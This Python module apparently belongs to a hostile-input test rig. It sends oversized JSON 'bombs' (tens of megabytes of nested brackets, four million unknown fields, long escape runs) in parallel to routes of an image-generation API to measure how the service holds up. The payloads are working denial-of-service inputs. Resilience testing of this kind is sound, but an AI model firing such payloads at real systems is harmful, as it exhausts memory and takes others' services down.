"""JSON that becomes far more memory than it has bytes: 63 MiB of brackets, and params with 4 million unknown fields."""

from __future__ import annotations

from concurrent.futures import ProcessPoolExecutor
from functools import cache
from itertools import repeat
from multiprocessing import get_context

import httpx

from benchmarks.hostile_rig import Target, outcomes

_TOGETHER = 4
_BOMBS = ("brackets", "fields", "escapes")
_PATHS = ("/v1/jobs", "/sdapi/v1/img2img", "/sdapi/v1/options")


def attack(target: Target) -> str:
    """Send each bomb several times at once, to routes that take images and to one that does not.

    Other processes send them: in this one they would delay the measurements.
    """
    came = []
    with ProcessPoolExecutor(_TOGETHER, mp_context=get_context("spawn")) as pool:
        for name in _BOMBS:
            for path in _PATHS:
                found = pool.map(_send, repeat(target, _TOGETHER), repeat(path), repeat(name))
                came.append(f"{name} to {path}: {outcomes(found)}")
    return "; ".join(came)


def _send(target: Target, path: str, name: str) -> int | str:
    try:
        return target.post(path, media_type="application/json", content=_bomb(name)).status_code
    except httpx.HTTPError as error:
        return type(error).__name__


@cache
def _bomb(name: str) -> bytes:
    match name:
        case "brackets":
            return b'{"kind":"txt2img","params":[' + b"[]," * (21 << 20) + b"[]]}"
        case "fields":
            fields = b",".join(b'"f%d":1' % number for number in range(4_000_000))
            return b'{"kind":"txt2img","params":{' + fields + b"}}"
        case _:
            return b'{"kind":"txt2img","params":{"prompt":"' + b"\\/" * (31 << 20) + b'"}}'
